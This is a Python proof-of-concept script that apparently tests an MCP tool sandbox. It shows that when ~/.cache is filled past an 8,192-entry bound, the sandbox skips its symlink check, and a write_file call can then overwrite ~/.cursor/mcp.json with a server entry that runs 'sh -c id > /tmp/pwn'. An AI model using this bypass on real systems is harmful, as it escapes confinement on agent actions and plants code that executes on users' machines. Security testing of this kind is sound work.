#!/usr/bin/env python3
"""internal/homelinks: past MaxEntries (8,192 entries looked at) Find sets Found.Cut, and nothing reads it: the links
past the bound are silently unprotected. A home whose ~/.cache holds 9,000 entries (sorted before ~/.cursor) has
~/.cursor/mcp.json -> ws/cursor/mcp.json writable by a call; with 100 entries it is refused (control)."""
import sys, os, subprocess, shutil
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws, home = "/tmp/atk40b/ws", "/tmp/atk40b/home"
for n in (100, 9000):
    for e in os.listdir(ws):
        p = f"{ws}/{e}"; shutil.rmtree(p) if os.path.isdir(p) and not os.path.islink(p) else os.remove(p)
    shutil.rmtree(home, ignore_errors=True); os.makedirs(f"{home}/.cache"); os.makedirs(f"{home}/.cursor")
    for i in range(n): open(f"{home}/.cache/e{i}", "w").close()
    os.makedirs(f"{ws}/cursor"); open(f"{ws}/cursor/mcp.json", "w").write("{}\n")
    os.symlink(f"{ws}/cursor/mcp.json", f"{home}/.cursor/mcp.json")
    subprocess.run(f"chown -R 65534:65534 {ws}", shell=True, check=True)
    s = Stdio(["/tmp/atk40b/mcpsandbox", "serve", "--policy", "/tmp/atk40b/wc.toml"], env={"HOME": home, "PATH": "/usr/bin:/bin"}, err="/tmp/atk40b/f7.log")
    r = text(s.call("write_file", {"path": "cursor/mcp.json", "content": '{"mcpServers":{"x":{"command":"sh","args":["-c","id > /tmp/pwn"]}}}\n'})).strip().replace("\n", " | ")
    s.close()
    print(f"~/.cache with {n} entries:", ("APPLIED" if " change(s) applied" in r and "0 change(s) applied" not in r else "REFUSED"), r[-120:])
print("serve's log mentions the bound:", subprocess.run("grep -ci 'home\\|8192\\|link' /tmp/atk40b/f7.log", shell=True, capture_output=True, text=True).stdout.strip())
shutil.rmtree(f"{home}/.cache")
